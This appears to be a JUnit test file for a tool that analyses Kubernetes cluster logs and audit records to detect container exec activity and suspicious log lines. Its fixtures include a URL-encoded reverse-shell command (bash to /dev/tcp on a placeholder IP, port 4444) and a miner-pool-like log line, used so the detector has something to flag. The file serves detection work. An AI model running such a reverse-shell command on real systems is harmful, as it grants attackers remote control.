package org.ephemera.analyze.cluster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ephemera.analyze.cluster.CheckoutPackageFixture.A;
import static org.ephemera.analyze.cluster.CheckoutPackageFixture.B;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.testing.FixtureCalls;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.analyze.testing.SealedPackageFixture;
import org.ephemera.format.Json;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tests logs of a cluster: of its API server, of a workspace, and of containers. */
class ClusterLogsTest {
    private static final String QUIET = "2026-11-26T12:13:00.000000001Z checkout 1.8 listens on 8080\n";

    private static final String SHELL =
            "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";

    @TempDir
    private Path folder;

    private final ClusterReportRunner reported = new ClusterReportRunner();

    /** Without a log, the kubelet responds with status 200 and an error message. */
    @Test
    void ignoresMessageOfKubelet() throws Exception {
        SealedPackageFixture fixture = CheckoutPackageFixture.in(folder);
        CheckoutPackageFixture.log(
                fixture,
                "kubernetes.log",
                CheckoutPackageFixture.container(A, "pod-a", "checkout"),
                "unable to retrieve container logs for containerd://c1");
        CheckoutPackageFixture.log(
                fixture,
                "kubernetes.log",
                CheckoutPackageFixture.container(B, "pod-b", "checkout"),
                "2026-11-26T12:13:00.000000001Z unable to retrieve container logs for containerd://c1\n");
        Analysis analysis = reported.analyzed(fixture);
        assertThat(analysis.gaps())
                .filteredOn(gap -> gap.why().contains("the kubelet reported an error"))
                .singleElement()
                .extracting(EvidenceGap::what)
                .isEqualTo("kubernetes.log.1");
        assertThat(reported.text("logs/index.csv"))
                .contains("shop/" + B + "/checkout,1")
                .doesNotContain(A);
    }

    /** The last line of a log may be such a message. A log whose agent adds no timestamps is read unchanged. */
    @Test
    void ignoresLastLineWithoutTimestamp() throws Exception {
        String words = "failed to do what no version of it has said so far";
        SealedPackageFixture fixture = CheckoutPackageFixture.in(folder);
        CheckoutPackageFixture.log(
                fixture, "kubernetes.log", CheckoutPackageFixture.container(A, "pod-a", "checkout"), QUIET + words);
        CheckoutPackageFixture.log(
                fixture,
                "kubernetes.log",
                CheckoutPackageFixture.container(A, "pod-a", "cut"),
                QUIET + "2026-11-26T12:1");
        CheckoutPackageFixture.log(
                fixture,
                "kubernetes.log",
                CheckoutPackageFixture.container(B, "pod-b", "plain"),
                "one\n" + words + "\n");
        Analysis analysis = reported.analyzed(fixture);
        assertThat(analysis.gaps())
                .filteredOn(gap -> gap.why().contains("the kubelet reported an error"))
                .extracting(EvidenceGap::what)
                .containsExactly("kubernetes.log.1");
        assertThat(reported.text("logs/index.csv"))
                .contains("shop/" + A + "/checkout,1", "shop/" + A + "/cut,2", "shop/" + B + "/plain,2");
    }

    /** A row contains the event in columns or as text. The API server logs each stage of a request. */
    @Test
    void readsRowsOfWorkspaceAsCalls() throws Exception {
        ObjectNode text = CheckoutPackageFixture.exec("a-2", B, "command=sh&tty=true");
        ObjectNode parts = CheckoutPackageFixture.exec("a-1", A, SHELL);
        Analysis analysis = reported.analyzed(rows(
                new String[] {
                    "TableName", "log_s", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "User", "ObjectRef"
                },
                new String[] {"AzureDiagnostics", FixtureCalls.text(text), "", "", "", "", "", ""},
                new String[] {"AzureDiagnostics", "cut off {", "", "", "", "", "", ""},
                new String[] {
                    "AKSAudit",
                    "",
                    "get",
                    "a-1",
                    parts.path("requestURI").asText(),
                    "2026-11-26T11:53:13.5Z",
                    FixtureCalls.text(parts.path("user")),
                    FixtureCalls.text(parts.path("objectRef"))
                }));
        assertThat(ClusterPackageTest.found(analysis, "EXE-001"))
                .extracting(Finding::subject)
                .containsExactlyInAnyOrder("shop/" + A + "/checkout", "shop/" + B + "/checkout");
        assertThat(ClusterPackageTest.found(analysis, "EXE-001"))
                .extracting(Finding::because)
                .anyMatch(why -> why.contains("/dev/tcp/"));
        assertThat(analysis.gaps()).extracting(EvidenceGap::why).anyMatch(why -> why.contains("/tables/0/rows/1"));
    }

    /** A log of changes only does not contain an exec over WebSocket. */
    @Test
    void reportsAuditLogWithoutReads() throws Exception {
        Analysis analysis = reported.analyzed(rows(
                new String[] {"TableName", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "ObjectRef"},
                new String[] {
                    "AKSAuditAdmin",
                    "patch",
                    "a-1",
                    "/apis/apps/v1/namespaces/shop/deployments/checkout",
                    "2026-11-26T11:53:13.5Z",
                    "{\"resource\":\"deployments\",\"namespace\":\"shop\",\"name\":\"checkout\"}"
                }));
        assertThat(ClusterPackageTest.found(analysis, "EXE-001")).isEmpty();
        assertThat(analysis.gaps())
                .anyMatch(gap -> gap.what().equals("EXE-001") && gap.why().contains("kube-audit-admin"));
        assertThat(reported.text("report.html")).contains("No sign in part of the records");
    }

    private SealedPackageFixture rows(String[] columns, String[]... rows) {
        ObjectNode body = Json.object();
        ObjectNode table = body.withArray("tables").addObject().put("name", "PrimaryResult");
        for (String column : columns) {
            table.withArray("columns").addObject().put("name", column).put("type", "string");
        }
        for (String[] row : rows) {
            var cells = table.withArray("rows").addArray();
            for (String cell : row) {
                cells.add(cell);
            }
        }
        return CheckoutPackageFixture.in(folder)
                .item(
                        "azure.aks.audit",
                        Map.of("cluster", "shop"),
                        FixtureResponse.json("operationalinsights:Query_Execute", FixtureCalls.text(body)));
    }

    /** An agent on the nodes wraps each line. A table of a workspace identifies the container. */
    @Test
    void readsLinesOfOtherLogStores() throws Exception {
        ObjectNode line =
                Json.object().put("log", "net      use pool pool.example:3333").put("stream", "stdout");
        line.putObject("kubernetes")
                .put("pod_name", B)
                .put("namespace_name", "shop")
                .put("container_name", "checkout");
        ObjectNode page = Json.object();
        page.withArray("events")
                .addObject()
                .put("timestamp", 1_795_000_000_000L)
                .put("message", FixtureCalls.text(line));
        Analysis analysis = reported.analyzed(CheckoutPackageFixture.in(folder)
                .item(
                        "aws.eks.insights-logs",
                        Map.of("cluster", "shop"),
                        FixtureResponse.json("logs:FilterLogEvents", FixtureCalls.text(page))));
        assertThat(ClusterPackageTest.found(analysis, "LOG-001"))
                .extracting(Finding::subject)
                .containsExactly("shop/" + B + "/checkout (Container Insights)");
    }

    /** A log group of the class Infrequent Access is read with a query. Its rows are read like events. */
    @Test
    void readsRowsOfLogsInsights() throws Exception {
        ObjectNode line = Json.object().put("log", "net      use pool pool.example:3333");
        line.putObject("kubernetes")
                .put("pod_name", B)
                .put("namespace_name", "shop")
                .put("container_name", "checkout");
        Analysis analysis = reported.analyzed(CheckoutPackageFixture.in(folder)
                .item(
                        "aws.eks.insights-logs",
                        Map.of("cluster", "shop"),
                        FixtureResponse.json("logs:GetQueryResults", rows(FixtureCalls.text(line))))
                .item(
                        "aws.eks.audit",
                        Map.of("cluster", "shop"),
                        FixtureResponse.json(
                                "logs:GetQueryResults",
                                rows(FixtureCalls.text(CheckoutPackageFixture.exec("a-1", A, SHELL))))));
        assertThat(ClusterPackageTest.found(analysis, "LOG-001"))
                .extracting(Finding::subject)
                .containsExactly("shop/" + B + "/checkout (Container Insights)");
        assertThat(ClusterPackageTest.found(analysis, "EXE-001")).isNotEmpty();
    }

    private static String rows(String message) throws IOException {
        ObjectNode page = Json.object().put("status", "Complete");
        ArrayNode row = page.putArray("results").addArray();
        row.addObject().put("field", "@timestamp").put("value", "2026-11-25 12:00:00.000");
        row.addObject().put("field", "@message").put("value", message);
        row.addObject().put("field", "@ptr").put("value", "p");
        return FixtureCalls.text(page);
    }
}
